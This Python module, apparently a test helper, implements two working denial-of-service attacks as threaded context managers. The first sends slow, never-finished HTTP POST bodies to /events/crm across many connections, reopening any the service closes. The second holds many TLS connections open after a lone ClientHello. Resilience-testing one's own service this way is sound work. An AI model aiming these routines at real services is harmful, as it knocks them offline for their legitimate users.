"""Attacks without a secret: unfinished bodies, and unfinished TLS handshakes."""

import socket
import ssl
import threading
import time
from collections import deque
from collections.abc import Callable
from contextlib import suppress
from types import TracebackType
from typing import Self

Connect = Callable[[], socket.socket]


class _Attack(threading.Thread):
    """Runs from the start of a `with` block to its end."""

    def __init__(self) -> None:
        super().__init__(daemon=True)
        self.over = threading.Event()

    def __enter__(self) -> Self:
        self.start()
        return self

    def __exit__(
        self, kind: type[BaseException] | None, error: BaseException | None, trace: TracebackType | None
    ) -> None:
        self.over.set()
        self.join()


class UnfinishedBodies(_Attack):
    """Connections that each send a body of `size` bytes but for its last byte, one after the other at `rate` bytes a
    second, and then wait. One that the service closes is opened again."""

    def __init__(self, connect: Connect, connections: int, size: int, rate: int) -> None:
        super().__init__()
        self._connect = connect
        self._size = size
        self._rate = rate
        self._connections = connections
        self.filled = threading.Event()
        self.sent = 0

    def run(self) -> None:
        began = time.monotonic()
        waiting: deque[socket.socket] = deque()
        while not self.over.is_set():
            if len(waiting) == self._connections:
                self.filled.set()
                if not _has_ended(waiting[0]):
                    waiting.rotate()
                    self.over.wait(0.001)
                    continue
                waiting.popleft().close()
            with suppress(OSError):
                waiting.append(self._begun())
            self.over.wait(max(0.0, began + self.sent / self._rate - time.monotonic()))
        for connection in waiting:
            connection.close()

    def _begun(self) -> socket.socket:
        """A connection whose body lacks its last byte."""
        connection = self._connect()
        head = b"POST /events/crm HTTP/1.1\r\nHost: x\r\nContent-Length: %d\r\n\r\n" % self._size
        self.sent += self._size - 1
        try:
            connection.sendall(head + b"x" * (self._size - 1))
        except OSError:
            connection.close()
            raise
        connection.setblocking(False)
        return connection


def _has_ended(connection: socket.socket) -> bool:
    """Whether the service has answered or closed it."""
    try:
        connection.recv(65536)
    except BlockingIOError:
        return False
    except OSError:
        pass
    return True


class HalfHandshakes(_Attack):
    """`count` connections that each send this much of a TLS handshake, and stay open."""

    def __init__(self, connect: Connect, count: int, start: bytes) -> None:
        super().__init__()
        self._connect = connect
        self._count = count
        self._start = start
        self.sent = 0
        self.all_sent = threading.Event()

    def run(self) -> None:
        held: list[socket.socket] = []
        while self.sent < self._count and not self.over.is_set():
            with suppress(OSError):
                connection = self._connect()
                connection.sendall(self._start)
                held.append(connection)
            self.sent += 1
        self.all_sent.set()
        self.over.wait()
        for connection in held:
            connection.close()


def client_hello() -> bytes:
    """The first bytes of a client of TLS."""
    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
    client = ssl.create_default_context().wrap_bio(incoming, outgoing, server_hostname="localhost")
    with suppress(ssl.SSLWantReadError):
        client.do_handshake()
    return outgoing.read()
